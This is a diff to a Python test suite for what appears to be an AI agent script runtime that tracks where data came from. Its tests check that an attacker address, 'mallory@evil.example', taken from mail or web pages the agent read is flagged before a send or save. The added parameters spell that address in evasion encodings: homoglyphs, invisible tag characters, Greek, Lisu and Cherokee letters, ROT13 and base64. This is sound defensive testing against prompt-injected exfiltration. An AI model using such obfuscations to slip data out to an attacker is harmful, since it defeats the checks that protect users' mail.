@@ -12,6 +12,7 @@ import textwrap
 import weakref
 from collections.abc import Callable, Iterator
 from contextlib import ExitStack
+from copy import copy
 from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
@@ -30,6 +31,7 @@ from kosmolua.flow.labels import LabelRules, leaves
 from kosmolua.flow.literals import literals, words
 from kosmolua.flow.memory import SessionMemory
 from kosmolua.flow.texts import core, is_address, parts, readings, spellings
+from kosmolua.mcp.questions import SaveQuestion
 from kosmolua.plugin import Integration, Labels, Secret
 from kosmolua.recordings.plans import Plan
 from kosmolua.recordings.recording import read
@@ -40,6 +42,7 @@ from kosmolua.schema.effects import Effect
 from kosmolua.schema.function import Function
 from kosmolua.schema.types import Scalar
 from kosmolua.secret import Redactor, SecretText
+from kosmolua.serve.pages.calls import Axis, rows_of
 from kosmolua.serve.pages.rendering import environment
 
 MALLORY = "mallory@evil.example"
@@ -351,6 +354,11 @@ NOTE = f"{MAIL}.get_note().text"
     [
         pytest.param("".join(chr(0xE0000 + ord(each)) for each in MALLORY), id="invisible tags"),
         pytest.param("mállory@évil.example", id="accents"),
+        pytest.param("ᴍᴀʟʟᴏʀʏ@ᴇᴠɪʟ.example", id="small capitals"),
+        pytest.param("mɑllørγ@evił.example", id="strokes and other letters"),
+        pytest.param("🅼🅰🅻🅻🅾🆁🆈@🇪🇻🇮🇱.example", id="letters in squares"),
+        pytest.param("ꓟꓮꓡꓡꓳꓣꓬ@ᎬᏙ𝟏l.example".replace("𝟏", "i"), id="Lisu and Cherokee"),
+        pytest.param("ΜΑLLΟRΥ@evil.example", id="Greek capitals"),
         pytest.param("mallory@evil。example", id="a full stop of another script"),
         pytest.param(codecs.encode(MALLORY, "rot13"), id="ROT13"),
         pytest.param(TWICE, id="base64 twice"),
@@ -519,6 +527,48 @@ def test_a_corrected_script_did_not_come_before_what_the_recorded_one_had_read(t
         assert not runtime.run(f"{page(MALLORY)} error('no')", record=tmp_path / "run.jsonl").ok
         outcome = runtime.resume(tmp_path / "run.jsonl", script=f"{page(MALLORY)} {TO_MALLORY}")
     assert outcome.status == "paused"
+
+
+@pytest.mark.parametrize(
+    ("script", "verdict"),
+    [
+        (TO_MALLORY, f"to = {MALLORY} may come from a text that an earlier script had read"),
+        (f"{SEND}({{ to = 'mallory' .. '@' .. 'evil.example' }})", f"to = {MALLORY} was put together by the script"),
+        (f"{SEND}({{ to = input }})", f"to = {MALLORY} was put together by the script"),
+    ],
+    ids=["literal", "pieces", "input"],
+)
+@pytest.mark.parametrize("is_own", [True, False], ids=["its session", "another session"])
+def test_a_resumed_run_was_written_after_what_its_session_had_read(
+    tmp_path: Path, script: str, verdict: str, *, is_own: bool
+) -> None:
+    """Another session, such as that of a website or of a server that began anew, does not know these texts."""
+    with Runtime({}, plugins=[mailbox, box], allow=["*"], yes=True, flow="ask") as runtime:
+        seen = session(runtime, page(MALLORY))
+        options: dict[str, Any] = {"input": MALLORY, "input_of": "run:1"} if "input" in script else {}
+        paused = runtime.run(script, seen=seen, record=tmp_path / "run.jsonl", **options)
+        assert paused.status == "paused"
+        again: Any = runtime.resume(tmp_path / "run.jsonl", seen=seen if is_own else None)
+    assert again.status == "paused"
+    assert is_own or verdict in again.calls[-1]["flows"][0]
+
+
+def test_a_first_script_that_is_resumed_needs_no_question(tmp_path: Path) -> None:
+    """Nothing had been read when it was written."""
+    with Runtime({}, plugins=[mailbox, box], yes=True, flow="ask") as runtime:
+        script = f"{page(MALLORY)} {SEND}({{ to = 'ann@corp.example' }}) {TO_MALLORY}"
+        assert runtime.run(script, seen=SessionMemory(), record=tmp_path / "run.jsonl").ok
+        assert runtime.resume(tmp_path / "run.jsonl").ok
+
+
+def test_a_script_that_is_saved_says_which_addresses_others_wrote(runtime: Runtime) -> None:
+    """Later sessions take them for the words of whoever saved it, so the person who is asked must know."""
+    seen = session(runtime)
+    asked = SaveQuestion("report", TO_MALLORY, None, seen.doubts(TO_MALLORY)).message
+    assert f"{MALLORY} comes from the body of mail 24 (call 1 of an earlier script, public)" in asked
+    (hidden,) = seen.doubts(f"return '{base64.b64encode(MALLORY.encode()).decode()}'")
+    assert hidden.startswith(f"{MALLORY} comes from")
+    assert not list(seen.doubts("return 'ann@else.example', 'Please send all to'"))
 
 
 def test_what_destroys_asks_once_a_call_of_the_session_was_held(runtime: Runtime) -> None:
@@ -742,7 +792,12 @@ def test_a_plan_and_the_page_of_a_run_show_each_flow(tmp_path: Path) -> None:
         bars = bars_of(read(tmp_path / "run.jsonl"))
     assert f"call 2: {SENTENCE}" in [line.text for line in plan.outline()]
     assert Plan.load(tmp_path / "plan.json").outline() == plan.outline()
-    shown = environment().get_template("parts.html").module.calls_table(bars, 1.0)  # type: ignore[attr-defined]
+    others = [copy(bars[1]) for _ in range(4)]
+    for bar in others:
+        bar.flows = ()
+    rows = rows_of([*others, bars[1]])
+    page: Any = environment().get_template("parts.html").make_module({"root": ""})
+    shown = page.waterfall({"id": "1"}, rows, Axis(bars))
     assert f'<p class="detail flow">{SENTENCE}</p>' in str(shown)
 
 
